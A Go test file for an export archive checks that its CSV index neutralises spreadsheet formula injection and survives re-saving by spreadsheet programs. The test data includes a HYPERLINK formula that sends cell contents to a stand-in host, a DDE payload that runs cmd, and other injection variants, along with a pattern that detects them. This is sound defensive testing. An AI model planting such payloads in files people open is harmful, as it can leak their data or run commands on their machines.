package archive_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	unicode16 "golang.org/x/text/encoding/unicode"

	"sidekeep/export"
	"sidekeep/export/archive"
	"sidekeep/export/archive/disk"
	"sidekeep/export/archive/openfiles"
)

// What a service calls its items and collections is nothing that a spreadsheet
// runs when somebody opens index.csv, and a history that is made anew of it has
// them as they are.
func TestIndexRunsNothing(t *testing.T) {
	const evil = `=HYPERLINK("http://x.example/?"&A1)`
	people := &shelved{Collection: export.Collection{ID: "=book", Name: evil, Kind: export.Contacts}}
	for id, version := range map[string]string{
		"=1+1": "-1+cmd|' /C calc'!A0", "@SUM(1)": "+1", "\t=1": " =1", "\u200b=1": "＝1", "a;=1": "x\t@1", "'=1": "''@1", "plain": "W/\"1\"", "-7": "+49 30 1",
	} {
		body := strings.NewReplacer("FN:Person 1", "FN:"+evil, "UID:card-1", "UID:="+id).Replace(card(1))
		people.items = append(people.items, text(id, version, id, body))
	}
	work := &shelved{Collection: export.Collection{ID: "-work", Name: "@work", Kind: export.Events}}
	work.items = append(work.items, text("+1!A", "=v", "=1.ics", strings.NewReplacer("PRODID:-//Test", "X-LINE;P=\"a\":;=1\r\nPRODID:=//Test", "SUMMARY:", "SUMMARY:=").Replace(event(1))))
	camera := &shelved{Collection: export.Collection{ID: "+camera!", Name: "-photos", Kind: export.Photos}}
	camera.items = append(camera.items, picture("@p", "-1-1", "=One/@Two", []byte("picture"), aDay))
	camera.items[0].Name = "=evil.jpg"
	a := create(t, archive.Options{})
	run(t, a, &shelf{collections: []*shelved{people, work, camera}})
	whole(t, a)
	before := said(t, a, archive.Query{})
	dir := a.Dir()

	f, err := os.Open(filepath.Join(dir, "data", "Phone", disk.IndexFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	for r := csv.NewReader(f); ; n++ {
		record, err := r.Read()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range record {
			for _, part := range strings.FieldsFunc(s, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
				part = strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || unicode.In(r, unicode.Cc, unicode.Cf) })
				if !strings.HasPrefix(part, "=") && !strings.HasPrefix(part, "@") && !strings.HasPrefix(part, "＝") && !regexp.MustCompile(`^[-+].*[(|!=]`).MatchString(part) {
					continue
				}
				t.Errorf("a spreadsheet runs %q", s)
			}
		}
	}
	if n != 11 {
		t.Errorf("%d lines", n)
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, disk.HistoryFile)); err != nil {
		t.Fatal(err)
	}
	repairNow(t, dir)
	a = open(t, dir)
	if after := said(t, a, archive.Query{}); len(after) != len(before) {
		t.Errorf("%d items, want %d", len(after), len(before))
	} else {
		for id, want := range before {
			if after[id] != want {
				t.Errorf("%q is %q, want %q", id, after[id], want)
			}
		}
	}
	if l := run(t, a, &shelf{collections: []*shelved{people, work, camera}}); l.Kept != 0 || l.Gone != 0 {
		t.Errorf("the next export: %+v", l.Counts)
	}
}

// A line says itself whether something in it is guarded: an index of an older
// format is read as it stands.
func TestIndexLineIsReadAsItWasWritten(t *testing.T) {
	for _, line := range [][]string{
		{"'=1", "'+49 30 1", "''=1", "=1", "a;'=1", ""},
		{"plain", "'quoted'", "+49 30 1", "'+49 30 1", ""},
	} {
		got := slices.Clone(line)
		openfiles.GuardCells(got)
		guarded := got[len(got)-1] == "1"
		if guarded {
			openfiles.UnguardCells(got)
		}
		if !slices.Equal(got[:len(got)-1], line[:len(line)-1]) {
			t.Errorf("%q is read as %q", line, got)
		}
	}
	a := create(t, archive.Options{})
	s := smallPhone()
	s.collections[0].items[0] = text("'=1", "'@2", "", card(0))
	run(t, a, s)
	file := filepath.Join(a.Dir(), "data", "Phone", disk.IndexFile)
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(f).ReadAll()
	if err := errors.Join(err, f.Close()); err != nil {
		t.Fatal(err)
	}
	for i := range records { // as format 2 has it
		if records[i][len(records[i])-1] == "1" {
			openfiles.UnguardCells(records[i])
		}
		records[i] = records[i][:len(records[i])-1]
	}
	out, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	w := csv.NewWriter(out)
	w.UseCRLF = true
	if err := errors.Join(w.WriteAll(records), out.Close()); err != nil {
		t.Fatal(err)
	}
	dir := a.Dir()
	if err := errors.Join(a.Close(), os.Remove(filepath.Join(dir, disk.HistoryFile))); err != nil {
		t.Fatal(err)
	}
	repairNow(t, dir)
	a = open(t, dir)
	if l := run(t, a, s); l.Kept != 0 || l.Gone != 0 {
		t.Errorf("the next export: %+v", l.Counts)
	}
}

// A history that is lost is made anew also of an index that a spreadsheet has
// opened and saved, and of what is no index nothing is made up.
func TestIndexThatASpreadsheetSaved(t *testing.T) {
	people := &shelved{Collection: export.Collection{ID: "book", Name: "=Büro", Kind: export.Contacts}}
	for i, name := range []string{"Jörg", "=1+1", "a;b", "c,d", `e"f`} {
		body := strings.ReplaceAll(card(i), fmt.Sprintf("FN:Person %d", i), "FN:"+name)
		people.items = append(people.items, text(fmt.Sprint("id ", name), "v", name+".vcf", body))
	}
	work := &shelved{Collection: export.Collection{ID: "work", Name: "Arbeit", Kind: export.Events}}
	work.items = append(work.items, text("e1", "v", "e1.ics", event(1)))
	camera := &shelved{Collection: export.Collection{ID: "camera", Name: "Kamera", Kind: export.Photos}}
	camera.items = append(camera.items, picture("p1", "v", "Süd", []byte("picture"), aDay))
	s := &shelf{collections: []*shelved{people, work, camera}}
	a := create(t, archive.Options{})
	run(t, a, s)
	before := said(t, a, archive.Query{})
	dir := a.Dir()
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	original, err := os.ReadFile(filepath.Join(dir, "data", "Phone", disk.IndexFile))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(original)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	saved := func(separator rune, change func(rows [][]string) [][]string) []byte {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.Comma = separator
		list := make([][]string, len(rows))
		for i, r := range rows {
			list[i] = slices.Clone(r)
		}
		if change != nil {
			list = change(list)
		}
		if err := errors.Join(w.WriteAll(list), w.Error()); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	encoded := func(e encoding.Encoding, b []byte) []byte {
		out, err := e.NewEncoder().Bytes(b)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	utf16 := unicode16.UTF16(unicode16.LittleEndian, unicode16.UseBOM)
	for name, x := range map[string]struct {
		index []byte
		lost  bool
	}{
		"as it was":            {original, false},
		"with a mark":          {append([]byte("\xef\xbb\xbf"), original...), false},
		"with semicolons":      {saved(';', nil), false},
		"and a mark":           {append([]byte("\xef\xbb\xbf"), saved(';', nil)...), false},
		"and a separator told": {append([]byte("sep=;\r\n"), saved(';', nil)...), false},
		"with tabs in UTF-16":  {encoded(utf16, saved('\t', nil)), false},
		"in Windows-1252":      {encoded(charmap.Windows1252, saved(';', nil)), false},
		"with columns moved":   {saved(',', func(r [][]string) [][]string { return turned(r) }), false},
		"with empty lines":     {append(saved(',', nil), []byte("\r\n"+strings.Repeat(",", len(openfiles.IndexHead)-1)+"\r\n")...), false},
		"with an empty column": {saved(',', func(r [][]string) [][]string { return widened(r) }), false},
		"sorted another way":   {saved(',', func(r [][]string) [][]string { slices.Reverse(r[1:]); return r }), false},
		"without a head":       {saved(',', func(r [][]string) [][]string { return r[1:] }), true},
		"empty":                {nil, true},
		"something else":       {[]byte("Dear Anna,\nall is well\n"), true},
		"without some columns": {saved(',', func(r [][]string) [][]string { return narrowed(r) }), true},
	} {
		t.Run(name, func(t *testing.T) {
			copied := t.TempDir()
			if err := os.CopyFS(copied, os.DirFS(dir)); err != nil {
				t.Fatal(err)
			}
			file := filepath.Join(copied, "data", "Phone", disk.IndexFile)
			if err := os.WriteFile(file, x.index, 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Remove(filepath.Join(copied, disk.HistoryFile)); err != nil {
				t.Fatal(err)
			}
			r := repairNow(t, copied)
			a := open(t, copied)
			after := said(t, a, archive.Query{})
			if x.lost {
				if len(r.Lost) != 2 || !strings.Contains(fmt.Sprint(r.Lost), "does not name the columns") || len(after) != 0 {
					t.Errorf("lost %+v, and %d items", r.Lost, len(after))
				}
				return
			}
			if diff := cmp.Diff(before, after); diff != "" || len(r.Lost) != 1 {
				t.Errorf("lost %+v\n(-before +after):\n%s", r.Lost, diff)
			} else if l := run(t, a, s); l.Kept != 0 || l.Gone != 0 {
				t.Errorf("the next export: %+v", l.Counts)
			}
			whole(t, a)
		})
	}
}

func turned(rows [][]string) [][]string {
	for _, r := range rows {
		slices.Reverse(r)
	}
	return rows
}

func widened(rows [][]string) [][]string {
	for i := range rows {
		rows[i] = append(rows[i], "")
	}
	return rows
}

func narrowed(rows [][]string) [][]string {
	for i := range rows {
		rows[i] = rows[i][:4]
	}
	return rows
}
